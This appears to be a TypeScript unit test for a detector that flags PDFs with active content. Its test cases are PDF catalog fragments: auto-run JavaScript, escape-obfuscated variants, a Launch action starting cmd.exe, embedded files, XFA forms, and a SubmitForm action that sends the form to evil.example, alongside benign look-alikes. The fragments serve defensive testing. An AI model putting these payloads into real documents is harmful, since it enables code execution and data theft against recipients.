import { hasActiveContent } from './active-pdf';

const pdf = (catalog: string) =>
  Buffer.from(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog ${catalog} >>\nendobj\n%%EOF`);

it.each([
  ['a script', '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'],
  ['a script without blanks', '/OpenAction<</S/JavaScript/JS<61>>>'],
  ['a script by numbers', '/OpenAction << /S /J#61v#61Scr#69pt /JS 4 0 R >>'],
  ['scripts by names', '/Names << /JavaScript 5 0 R >>'],
  ['the start of a program', '/OpenAction << /S /Launch /F (cmd.exe) >>'],
  ['the start by large and small digits', '/OpenAction << /S /#4Caunc#68 /F (cmd.exe) >>'],
  ['a file in it', '/Names << /EmbeddedFiles 6 0 R >>\n>>\n<< /Type /EmbeddedFile'],
  ['a form that brings scripts', '/AcroForm << /XFA 7 0 R >>'],
  ['a form that sends itself', '/AA << /S /SubmitForm /F (https://evil.example) >>'],
])('HOT-08, RFQ-13: a PDF with %s is active', (_what, catalog) => {
  expect(hasActiveContent(pdf(catalog))).toBe(true);
});

it.each([
  ['the page to begin at', '/OpenAction [3 0 R /Fit]'],
  ['a link', '/OpenAction << /S /GoTo /D [3 0 R /XYZ] >>'],
  ['names that only begin so', '/JavaScripts 1 /LaunchDate 2 /EmbeddedFilesystem 3'],
  ['words', '/Title (JavaScript and Launch for beginners)'],
])('HOT-08, RFQ-13: a PDF with %s is a document like others', (_what, catalog) => {
  expect(hasActiveContent(pdf(catalog))).toBe(false);
});
